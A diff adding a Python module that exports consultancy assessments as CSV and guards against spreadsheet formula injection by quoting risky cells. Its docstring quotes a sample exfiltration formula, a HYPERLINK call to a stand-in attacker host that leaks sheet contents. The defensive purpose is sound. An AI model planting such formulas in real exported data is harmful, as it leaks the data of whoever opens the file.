@@ -1,0 +1,98 @@
+"""A consultant's assessments as CSV: one row per assessment, answers and result columns.
+
+Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
+in some, a tab or carriage return) as a formula: a client name such as
+``=HYPERLINK("http://evil.example/?"&A1)`` would leak the sheet when the
+consultant opens the export. Every text cell starting with one of those
+gets a leading single quote (OWASP, "CSV Injection"). Numbers we computed
+are written as numbers: ``-10`` from a growth answer is not a formula.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterable, Iterator, Mapping, Sequence
+from datetime import datetime
+from typing import TYPE_CHECKING, Any
+
+if TYPE_CHECKING:
+    from advisor.assessments.models import Assessment
+
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+OPTIONS = ("api", "self_host", "hybrid")
+FIXED_COLUMNS = (
+    "client_name",
+    "status",
+    "created_at",
+    "updated_at",
+    "completed_at",
+    "ruleset",
+    "recommendation",
+    "confidence",
+    *(f"tco_{option}_usd" for option in OPTIONS),
+    "excluded",
+    "caveats",
+    "notes",
+)
+ANSWER_PREFIX = "answer:"
+
+
+def neutralise(value: Any) -> str | int | float:
+    """A cell value a spreadsheet will show as text, never run as a formula."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    if isinstance(value, int | float):
+        return value
+    if isinstance(value, datetime):
+        return value.isoformat(timespec="seconds")
+    if isinstance(value, list | tuple):
+        value = "; ".join(str(item) for item in value)
+    text = str(value)
+    return "'" + text if text.startswith(FORMULA_PREFIXES) else text
+
+
+def assessments_csv(assessments: Sequence[Assessment]) -> str:
+    """The whole export as text (a consultant has hundreds of rows, not millions)."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    for row in csv_rows(assessments):
+        writer.writerow(row)
+    return buffer.getvalue()
+
+
+def csv_rows(assessments: Sequence[Assessment]) -> Iterator[list[Any]]:
+    answer_keys = _answer_keys(assessment.answers for assessment in assessments)
+    yield [*FIXED_COLUMNS, *(f"{ANSWER_PREFIX}{key}" for key in answer_keys)]
+    for assessment in assessments:
+        cells = [*_fixed_cells(assessment), *(assessment.answers.get(key) for key in answer_keys)]
+        yield [neutralise(cell) for cell in cells]
+
+
+def _answer_keys(answer_sets: Iterable[Mapping[str, Any]]) -> list[str]:
+    keys: set[str] = set()
+    for answers in answer_sets:
+        keys.update(answers)
+    return sorted(keys)
+
+
+def _fixed_cells(assessment: Assessment) -> list[Any]:
+    result = assessment.result or {}
+    options = (result.get("costs") or {}).get("options") or {}
+    excluded = result.get("excluded") or {}
+    return [
+        assessment.client_name,
+        assessment.status,
+        assessment.created_at,
+        assessment.updated_at,
+        assessment.completed_at,
+        f"{assessment.ruleset.name} {assessment.ruleset.version}",
+        result.get("recommendation") or ("none" if result else ""),
+        result.get("confidence") if result else None,
+        *((options.get(option) or {}).get("tco_usd") for option in OPTIONS),
+        sorted(excluded),
+        [caveat.get("code", "") for caveat in result.get("caveats") or []],
+        assessment.notes,
+    ]
